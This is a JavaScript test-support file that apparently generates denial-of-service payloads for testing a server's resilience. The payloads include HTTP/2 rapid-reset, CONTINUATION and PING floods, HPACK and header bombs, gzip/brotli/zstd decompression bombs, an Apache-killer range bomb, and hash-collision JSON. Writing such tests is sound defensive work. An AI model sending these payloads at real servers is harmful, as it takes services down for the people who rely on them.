/* tests/support/attack_payloads.mjs - What the attacks send: each makes its bytes once, a list of requests, or [greeting, flood] of frames. */
import { spawnSync } from "node:child_process";
import zlib from "node:zlib";
import { data, error, fields, flag, frame, get, headers, ping as pingFrame, post, preface, settings as entries, type, u32 } from "./frames.mjs";

const repeat = (n, make) => Buffer.concat(Array.from({ length: n }, (_, i) => make(i)));
const greeting = Buffer.concat([preface, frame(type.settings, 0, 0, entries([[1, 0]]))]);
const rapid = post("/api/v1/things", [["content-type", "application/json"]]);

const request = (target, lines = [], method = "GET", body = Buffer.alloc(0)) =>
  Buffer.concat([Buffer.from(`${method} ${target} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n${lines.map((l) => l + "\r\n").join("")}\r\n`, "latin1"), body]);
const sending = (body, more = [], kind = "application/json") =>
  request("/api/v1/things", [`Content-Type: ${kind}`, `Content-Length: ${body.length}`, ...more], "POST", body);

/* Node learned zstd late; the program is there for the tests. */
function zstd(input) {
  const { status, stdout, stderr } = spawnSync("zstd", ["-q", "-c", "-9"], { input, maxBuffer: 256 << 20 });
  if (status !== 0) throw new Error(`zstd: ${stderr}`);
  return stdout;
}

/* Names that have the same hash when a hash is h * 31 + c ("Aa", "BB") or h * 33 + c ("Ez", "FY") from any start: 2^bits of them. */
function colliding([a, b], bits) {
  return Array.from({ length: 1 << bits }, (_, i) => Array.from({ length: bits }, (_, bit) => (i & (1 << bit) ? a : b)).join(""));
}
const object = (names) => Buffer.from(`{${names.map((name) => `"${name}":1`).join(",")}}`);

export const payloads = {
  "rapid-reset": () => [
    greeting,
    repeat(1000, (i) => Buffer.concat([headers(2 * i + 1, rapid, flag.endHeaders), frame(type.reset, 0, 2 * i + 1, u32(error.cancel))])),
  ],
  /* RFC 9113 has the server reset a stream whose body is longer than was announced (CVE-2025-8671). */
  "made-you-reset": () => [
    greeting,
    repeat(1000, (i) => Buffer.concat([headers(2 * i + 1, [...rapid, ["content-length", "1"]], flag.endHeaders), data(2 * i + 1, "more")])),
  ],
  continuation: () => [
    Buffer.concat([greeting, frame(type.headers, flag.endStream, 1, fields(get()))]),
    repeat(2000, (i) => frame(type.continuation, 0, 1, fields([[`a${i}`, "b".repeat(20)]]))),
  ],
  settings: () => [greeting, repeat(2000, (i) => frame(type.settings, 0, 0, entries([[4, 65535 + (i % 2)], [1, i % 4096]])))],
  ping: () => [greeting, repeat(2000, () => pingFrame())],
  /* A field of 3,900 bytes goes into the table once, and is then asked for a thousand times, a byte each. */
  "hpack-bomb": () => [
    Buffer.concat([greeting, headers(1, Buffer.concat([fields(get()), fields([["x", "y".repeat(3900)]], 0x40)]))]),
    repeat(20, (i) => headers(2 * i + 3, Buffer.concat([fields(get()), Buffer.alloc(1000, 0xbe)]))),
  ],
  "header-bomb": () => [
    request("/api/v1/things", Array.from({ length: 100_000 }, (_, i) => `X-${i}: a`)), // many
    request("/api/v1/things", [`X: ${"a".repeat(4 << 20)}`]), // huge
    request(`/${"a".repeat(1 << 20)}`), // the line itself
    request("/api/v1/things", Array.from({ length: 90 }, (_, i) => `X-${i}: ${"a".repeat(150)}`)), // just small enough
    request("/api/v1/things", [`Cookie: ${"a=b; ".repeat(3000)}`]), // likewise
  ],
  "decompression-bomb": () => {
    const zeros = Buffer.alloc(16 << 20), json = Buffer.from(`{"name":"${"a".repeat(700_000)}"}`);
    const once = zlib.gzipSync(zeros, { level: 9 });
    return [
      sending(once, ["Content-Encoding: gzip"]), // 1:1000
      sending(zlib.brotliCompressSync(zeros, { params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 5 } }), ["Content-Encoding: br"]), // 1:100,000 and more
      sending(zstd(zeros), ["Content-Encoding: zstd"]), // 1:10,000
      sending(zlib.gzipSync(once, { level: 9 }), ["Content-Encoding: gzip, gzip"]),
      sending(zlib.gzipSync(json, { level: 9 }), ["Content-Encoding: gzip"]), // as JSON, and below limits.body_bytes
      // No larger than it may become: all of it is decoded and read, and then is no good.
      sending(zlib.gzipSync(Buffer.concat(Array.from({ length: 4000 }, (_, i) => Buffer.from(`{"a${i * 7919}":[${i}]}\n`)))), ["Content-Encoding: gzip"]),
    ];
  },
  "range-bomb": () => {
    const ranges = (list) => request("/static/large.bin", [`Range: bytes=${list.join(",")}`]);
    return [
      ranges(Array.from({ length: 1300 }, (_, i) => `5-${i + 10}`)), // Apache killer (CVE-2011-3192)
      ranges(Array.from({ length: 1200 }, (_, i) => `${i * 400}-${i * 400 + 1}`)), // far apart
      ranges(Array.from({ length: 5000 }, () => "0-")), // larger than a head may be
      ranges(Array.from({ length: 16 }, (_, i) => `${i * 60000}-${i * 60000 + 59000}`)), // as many as are answered
    ];
  },
  "hash-collision": () => [
    sending(object(colliding(["Aa", "BB"], 14))),
    sending(object(colliding(["Ez", "FY"], 14))),
    sending(object(Array.from({ length: 100_000 }, (_, i) => i.toString(36)))),
    sending(Buffer.from("[".repeat(100_000))),
    sending(Buffer.from(`${'{"a":'.repeat(100_000)}1${"}".repeat(100_000)}`)),
    sending(Buffer.from(`{"name":[${"1,".repeat(400_000)}1]}`)),
    sending(Buffer.from(colliding(["Ez", "FY"], 14).map((n) => `${n}=1`).join("&")), [], "application/x-www-form-urlencoded"),
    request(`/api/v1/things?${Array.from({ length: 100_000 }, (_, i) => `a${i}=1`).join("&")}`),
    request(`/api/v1/things?${colliding(["Ez", "FY"], 8).map((n) => `${n}=1`).join("&")}`), // short enough for a line
  ],
};
